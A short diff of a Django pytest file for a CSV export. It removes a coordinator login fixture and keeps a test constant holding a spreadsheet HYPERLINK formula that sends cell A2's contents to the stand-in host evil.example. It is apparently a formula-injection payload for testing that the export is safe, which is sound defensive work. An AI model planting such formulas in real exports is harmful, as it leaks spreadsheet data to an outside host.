@@ -18,14 +18,6 @@ pytestmark = pytest.mark.django_db
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"点击")'
 
 
-@pytest.fixture
-def coordinator(client, django_user_model, roles):
-    user = django_user_model.objects.create_user("coordinator", password="x" * 12)
-    user.groups.add(roles["coordinators"])
-    client.force_login(user)
-    return client
-
-
 def csv_rows(response):
     assert response["Content-Type"] == "text/csv"
     text = b"".join(response.streaming_content).decode("utf-8").lstrip("\ufeff")
